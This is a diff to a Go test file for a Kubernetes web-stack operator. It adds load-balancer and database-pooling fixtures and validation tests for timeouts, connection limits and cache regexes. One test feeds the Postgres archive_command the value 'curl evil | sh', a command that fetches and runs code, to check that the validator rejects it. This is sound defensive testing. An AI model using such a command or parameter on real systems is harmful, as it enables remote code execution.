@@ -8,8 +8,10 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/google/go-cmp/cmp"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 
 	"github.com/webstack-dev/webstack-operator/api/v1alpha1"
 	"github.com/webstack-dev/webstack-operator/internal/manifest"
@@ -49,6 +51,15 @@ loadBalancer:
 	"rate-limit": `
 app: {image: shop:1}
 loadBalancer: {rateLimit: {requestsPerSecond: 25}}`,
+	"edge": `
+app: {image: shop:1}
+loadBalancer:
+  maxRequestBodySize: 1Mi
+  rateLimit: {connectionsPerClient: 20}
+  service: {type: LoadBalancer, proxyProtocol: Required}`,
+	"no-client-limits": `
+app: {image: shop:1}
+loadBalancer: {rateLimit: {connectionsPerClient: 0}}`,
 	"many-rules": `
 app: {image: shop:1}
 cache:
@@ -111,6 +122,12 @@ app: {image: shop:1, replicas: 0}
 cache: {enabled: false}
 redis: {enabled: false}
 database: {enabled: false}`,
+	"direct": `
+app: {image: shop:1}
+database: {pooling: {mode: None}}`,
+	"session": `
+app: {image: shop:1, threads: 4}
+database: {pooling: {mode: Session, replicas: 1}}`,
 	"full": "", // config/samples/webstack_v1alpha1_full.yaml
 }
 
@@ -157,6 +174,7 @@ func dnsDiscovery() Discovery {
 		AppHost:         "shop-app-headless.web.svc.cluster.local",
 		CacheHost:       "shop-cache-headless.web.svc.cluster.local",
 		AppListenerHost: "shop-loadbalancer-app.web.svc.cluster.local",
+		DatabaseHost:    "shop-database.web.svc.cluster.local",
 	}}
 }
 
@@ -237,11 +255,12 @@ func TestGolden(t *testing.T) {
 // output is the same on every call (parameters come from a map).
 func TestFilesFollowTheEnabledComponents(t *testing.T) {
 	tests := map[string][]string{
-		"defaults":       {FileHAProxy, FileVCL, FileVarnishArgs, FileRedis, FilePostgres, FilePgHBA, FileInitSQL},
-		"cache-disabled": {FileHAProxy, FileRedis, FilePostgres, FilePgHBA, FileInitSQL},
-		"tasks-broker":   {FileHAProxy, FileVCL, FileVarnishArgs, FileRedis, FileBroker, FilePostgres, FilePgHBA, FileInitSQL},
+		"defaults":       {FileHAProxy, FileVCL, FileVarnishArgs, FileRedis, FilePostgres, FilePgHBA, FileInitSQL, FilePooler},
+		"cache-disabled": {FileHAProxy, FileRedis, FilePostgres, FilePgHBA, FileInitSQL, FilePooler},
+		"tasks-broker":   {FileHAProxy, FileVCL, FileVarnishArgs, FileRedis, FileBroker, FilePostgres, FilePgHBA, FileInitSQL, FilePooler},
 		"backends-only":  {FileHAProxy},
-		"full":           {FileHAProxy, FileVCL, FileVarnishArgs, FileRedis, FileBroker, FilePostgres, FilePgHBA, FileInitSQL},
+		"full":           {FileHAProxy, FileVCL, FileVarnishArgs, FileRedis, FileBroker, FilePostgres, FilePgHBA, FileInitSQL, FilePooler},
+		"direct":         {FileHAProxy, FileVCL, FileVarnishArgs, FileRedis, FilePostgres, FilePgHBA, FileInitSQL},
 	}
 	for name, want := range tests {
 		t.Run(name, func(t *testing.T) {
@@ -353,6 +372,49 @@ func TestFilesRejectBadInput(t *testing.T) {
 				ws.Spec.Cache.Rules = []v1alpha1.CacheRule{{PathRegex: `^/"`, Pass: true}}
 			},
 			want: "spec.cache.rules[0].pathRegex",
+		},
+		"timeout past HAProxy's timer": {
+			mutate: func(ws *v1alpha1.WebStack, _ *tuning.Result, _ *Discovery, _ *Options) {
+				ws.Spec.LoadBalancer.Timeouts.Client = &metav1.Duration{Duration: 600 * time.Hour}
+			},
+			want: "spec.loadBalancer.timeouts.client is 600h0m0s, past HAProxy's longest timer",
+		},
+		"server + queue past HAProxy's timer": {
+			mutate: func(ws *v1alpha1.WebStack, _ *tuning.Result, _ *Discovery, _ *Options) {
+				ws.Spec.LoadBalancer.Timeouts.Server = &metav1.Duration{Duration: 300 * time.Hour}
+				ws.Spec.LoadBalancer.Timeouts.Queue = &metav1.Duration{Duration: 300 * time.Hour}
+			},
+			want: "spec.loadBalancer.timeouts.server + timeouts.queue is 600h0m0s",
+		},
+		"connection cap not defaulted": {
+			mutate: func(ws *v1alpha1.WebStack, _ *tuning.Result, _ *Discovery, _ *Options) {
+				ws.Spec.LoadBalancer.RateLimit.ConnectionsPerClient = nil
+			},
+			want: "spec.loadBalancer.rateLimit.connectionsPerClient is not set",
+		},
+		"body size not defaulted": {
+			mutate: func(ws *v1alpha1.WebStack, _ *tuning.Result, _ *Discovery, _ *Options) {
+				ws.Spec.LoadBalancer.MaxRequestBodySize = nil
+			},
+			want: "spec.loadBalancer.maxRequestBodySize is not set",
+		},
+		"parameter that runs a command": {
+			mutate: func(ws *v1alpha1.WebStack, _ *tuning.Result, _ *Discovery, _ *Options) {
+				ws.Spec.Database.Parameters = map[string]v1alpha1.ParameterValue{"archive_command": "curl evil | sh"}
+			},
+			want: "spec.database.parameters.archive_command cannot be set",
+		},
+		"parameter that turns off ssl checks": {
+			mutate: func(ws *v1alpha1.WebStack, _ *tuning.Result, _ *Discovery, _ *Options) {
+				ws.Spec.Database.Parameters = map[string]v1alpha1.ParameterValue{"ssl_passphrase_command": "x"}
+			},
+			want: "spec.database.parameters.ssl_passphrase_command cannot be set",
+		},
+		"rule regex with an unbalanced group": {
+			mutate: func(ws *v1alpha1.WebStack, _ *tuning.Result, _ *Discovery, _ *Options) {
+				ws.Spec.Cache.Rules = []v1alpha1.CacheRule{{PathPrefix: "/a/", Pass: true}, {PathRegex: `^/(api|v2/`, Pass: true}}
+			},
+			want: "spec.cache.rules[1].pathRegex 1 unclosed (",
 		},
 		"bad role name": {
 			mutate: func(_ *v1alpha1.WebStack, _ *tuning.Result, _ *Discovery, o *Options) { o.AppRole = "App-Role" },
